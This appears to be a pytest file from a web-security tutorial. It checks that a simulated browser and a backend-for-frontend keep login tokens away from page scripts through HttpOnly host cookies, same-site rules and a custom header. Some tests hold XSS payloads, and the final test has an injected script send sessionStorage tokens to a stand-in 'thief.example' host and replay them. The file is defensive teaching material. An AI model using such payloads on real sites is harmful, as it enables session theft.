"""A browser, as small as it can be, does what a real one does where the chapter relies on it."""

from __future__ import annotations

import pytest
from requests import ConnectionError as NotSent

from tests.notebooks.lint import tokens
from tutorial_lib.theft import AttackedServer, Bff, Browser, Caller, Collector
from tutorial_lib.theft.bff import ATTRIBUTES, COOKIE
from tutorial_lib.theft.page import Page, Shown

HOME, BLOG, THIEF = "https://notes.example", "https://blog.notes.example", "https://thief.example"
OWN = {"X-Notes-App": "1"}
GRACE = {"username": "grace", "password": "hopper-1952"}


def world() -> tuple[AttackedServer, Bff, Collector, Browser]:
    api = AttackedServer(rotate_refresh_tokens=True, notes={"grace": "hers alone"})
    bff, thief = Bff(api.wsgi, api.clock), Collector()
    return api, bff, thief, Browser({HOME: bff.wsgi, THIEF: thief.wsgi})


def logged_in(browser: Browser) -> Page:
    page = browser.open(HOME)
    assert page.fetch("/bff/login", "POST", OWN, GRACE).status_code == 200
    return page


def test_the_page_gets_its_notes_and_has_no_token() -> None:
    _, bff, _, browser = world()
    page = logged_in(browser)
    answer = page.fetch("/bff/notes", headers=OWN)
    assert [note["text"] for note in answer.json()] == ["hers alone"]
    assert (page.cookie, page.session_storage) == ("", {})
    said = repr([(m.headers, m.body) for one in bff.journal for m in (one.request, one.response)])
    cookie = browser.cookies[HOME][COOKIE].value
    assert tokens(said) == [] and cookie not in said and "hopper" not in said


def test_the_backend_refreshes_an_expired_login() -> None:
    api, _, _, browser = world()
    page = logged_in(browser)
    api.clock.advance(hours=3)
    assert page.fetch("/bff/notes", headers=OWN).status_code == 200
    assert len(api.journal.to("token/refresh/")) == 1


def test_after_a_logout_the_cookie_is_gone_and_good_for_nothing() -> None:
    api, _, _, browser = world()
    page = logged_in(browser)
    kept = dict(browser.cookies[HOME])
    page.fetch("/bff/logout", "POST", OWN)
    assert browser.cookies[HOME] == {}
    browser.cookies[HOME] = kept
    assert page.fetch("/bff/notes", headers=OWN).status_code == 401
    assert [one.status for one in api.journal.to("token/blacklist/")] == [200]


@pytest.mark.parametrize("method, path", [("GET", "notes"), ("POST", "notes"), ("POST", "logout")])
def test_without_the_header_of_its_own_nothing_is_done(method: str, path: str) -> None:
    api, _, _, browser = world()
    page = logged_in(browser)
    before = len(api.journal)
    assert page.fetch(f"/bff/{path}", method).status_code == 403
    assert len(api.journal) == before


def test_another_origin_cannot_send_that_header() -> None:
    _, bff, _, browser = world()
    logged_in(browser)
    with pytest.raises(NotSent):
        browser.open(BLOG).fetch(HOME + "/bff/notes", "POST", OWN, {"text": "no"})
    assert [(one.method, one.status) for one in bff.journal][1:] == [("OPTIONS", 404)]


def test_a_neighbour_sends_the_cookie_along_and_a_stranger_does_not() -> None:
    _, _, _, browser = world()
    logged_in(browser)
    seen = []

    def see(environ, start_response):  # type: ignore[no-untyped-def]
        seen.append(environ.get("HTTP_COOKIE", ""))
        start_response("200 OK", [])
        return [b""]

    browser.sites[HOME] = see
    for origin in (HOME, BLOG, THIEF):
        browser.open(origin).fetch(HOME + "/bff/notes", "POST")
    assert [COOKIE in cookies for cookies in seen] == [True, True, False]


@pytest.mark.parametrize(
    "field, is_kept",
    [
        (f"{COOKIE}=1; {ATTRIBUTES}", True),
        (f"{COOKIE}=1; Path=/; HttpOnly", False),
        (f"{COOKIE}=1; Path=/bff; Secure", False),
        (f"{COOKIE}=1; Path=/; Secure; Domain=notes.example", False),
        ("session=1", True),
    ],
)
def test_a_host_cookie_is_kept_only_as_its_name_promises(field: str, is_kept: bool) -> None:
    browser = Browser({})
    browser.keep(HOME, field)
    assert bool(browser.cookies.get(HOME)) == is_kept


def test_a_script_reads_all_cookies_but_the_http_only_ones() -> None:
    browser = Browser({})
    for field in (f"{COOKIE}=1; {ATTRIBUTES}", "theme=dark"):
        browser.keep(HOME, field)
    assert browser.open(HOME).cookie == "theme=dark"


@pytest.mark.parametrize(
    "html, called",
    [
        ("<script>run()</script>", ["run"]),
        ("<img src=x onerror=run()>", ["run"]),
        ('<a href="java\nscript:run()">', ["run"]),
        ("<p title='run()'>run()</p>", []),
        ("&lt;script&gt;run()&lt;/script&gt;", []),
    ],
)
def test_a_script_runs_and_text_does_not(html: str, called: list[str]) -> None:
    assert Shown(html).called == called


def test_what_a_script_takes_from_the_page_is_good_elsewhere() -> None:
    api, _, thief, browser = world()
    browser.sites[HOME] = api.wsgi
    page = browser.open(HOME)
    page.session_storage |= page.fetch("/api/token/", "POST", data=GRACE).json()
    browser.scripts["steal"] = lambda page: page.fetch(
        THIEF + "/collect", "POST", data=page.session_storage
    )
    page.show("Hello, Ada<script>steal()</script>!")
    answer = Caller(api.wsgi).get("notes/", token=thief.got[0]["access"])
    assert [note["owner"] for note in answer.json()] == ["grace"]
    assert [one.spent is not None for one in thief.journal] == [True]
